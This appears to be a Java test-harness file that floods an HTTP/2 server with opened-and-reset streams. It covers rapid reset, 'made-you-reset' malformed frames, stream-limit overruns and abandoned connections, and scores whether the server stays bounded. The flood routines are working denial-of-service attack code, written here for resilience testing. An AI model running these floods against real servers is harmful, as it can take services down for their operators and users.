package dev.tern.interop.attacks;

import static dev.tern.interop.attacks.Octets.concat;
import static dev.tern.interop.attacks.Octets.frame;
import static dev.tern.interop.attacks.Octets.int32;
import static dev.tern.interop.attacks.Octets.windowUpdate;

import java.io.IOException;
import java.util.List;
import java.util.function.IntFunction;

/** Streams opened and thrown away, by the peer or by mistakes that make the server do it. */
final class StreamFloods {
  private static final int RAPID = 100_000;
  private static final int MADE = 10_000;

  private StreamFloods() {}

  static List<Attack> all() {
    return List.of(
        new Attack("rapid-reset", "CVE-2023-44487", scene -> flood(scene, RAPID, Octets::reset)),
        made("window-zero", stream -> windowUpdate(stream, 0)),
        made("window-overflow", stream -> windowUpdate(stream, Integer.MAX_VALUE)),
        made("priority-length", stream -> frame(Octets.PRIORITY, 0, stream, new byte[4])),
        made(
            "self-dependency",
            stream -> frame(Octets.PRIORITY, 0, stream, concat(int32(stream), new byte[1]))),
        made(
            "data-after-end",
            stream -> concat(end(stream), frame(Octets.DATA, 0, stream, (byte) 0))),
        made(
            "headers-after-end",
            stream -> concat(end(stream), Octets.headers(stream, 1, Octets.field("x", "y")))),
        new Attack("stream-limit", "CVE-2026-47244", StreamFloods::beyondLimit),
        new Attack("abandoned-streams", "CVE-2023-44487", StreamFloods::abandoned));
  }

  private static byte[] end(int stream) {
    return frame(Octets.DATA, Octets.END_STREAM, stream, new byte[5]);
  }

  private static Attack made(String how, IntFunction<byte[]> mistake) {
    return new Attack(
        "made-you-reset: " + how, "CVE-2025-8671", scene -> flood(scene, MADE, mistake));
  }

  private static Outcome flood(Scene scene, int streams, IntFunction<byte[]> then)
      throws IOException {
    Peer peer = scene.open();
    boolean open = true;
    for (int i = 0; open && i < streams; i++) {
      int stream = 2 * i + 1;
      open = peer.send(concat(scene.target.unaryHead(stream), then.apply(stream)));
    }
    return scene.cutOff(peer);
  }

  /** Ten times the usual limit at once, before the server's SETTINGS are acknowledged. */
  private static Outcome beyondLimit(Scene scene) throws IOException {
    Peer peer = scene.open().silentOnSettings();
    int streams = 2560;
    for (int i = 0; i < streams; i++) {
      peer.send(scene.target.unaryHead(2 * i + 1));
    }
    peer.await(() -> peer.resets().size() >= streams - 256, 3000);
    int live = streams - peer.resets().size();
    boolean bounded = peer.isClosed() || live <= 256;
    String what = peer.isClosed() ? peer.fate() : live + " of " + streams + " streams taken";
    return new Outcome(bounded, what, peer.endNanos());
  }

  /** Connections that open calls and vanish: nothing of them may stay. */
  private static Outcome abandoned(Scene scene) throws IOException {
    for (int i = 0; i < 300; i++) {
      try (Peer peer = scene.target.connect()) {
        for (int stream = 1; stream < 20; stream += 2) {
          peer.send(concat(scene.target.downloadCall(stream, 10, 100_000)));
        }
        peer.closeHard();
      }
    }
    return scene.served(scene.open(), 1);
  }
}
